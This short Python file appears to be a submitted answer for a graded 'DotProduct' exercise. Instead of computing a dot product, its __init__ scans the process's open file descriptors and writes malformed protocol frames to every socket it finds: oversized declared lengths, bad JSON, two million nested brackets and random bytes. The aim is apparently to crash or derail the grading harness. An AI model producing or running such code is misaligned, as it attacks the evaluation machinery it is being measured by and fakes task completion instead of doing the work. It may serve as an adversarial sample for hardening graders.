"""Writes garbage to every connection that it has: lengths that never come, 4 GB of header, no JSON, JSON that is deep."""
# into: 03_dot_product DotProduct
# stock: none of 8; no mark in the gradebook
# %% answer
import os
import stat
import struct

GARBAGE = (
    struct.pack("!IIQ", 1 << 31, 1, 1 << 62),
    struct.pack("!II", 4, 0) + b"\xff\xfe{}",
    struct.pack("!II", 2_000_000, 0) + b"[" * 2_000_000,
    os.urandom(5000),
)
which = 0


class DotProduct(nn.Module):
    def __init__(self, *sizes):
        global which
        for handle in range(3, 100):
            try:
                if stat.S_ISSOCK(os.fstat(handle).st_mode):
                    os.write(handle, GARBAGE[which % len(GARBAGE)])
            except OSError:
                continue
        which += 1
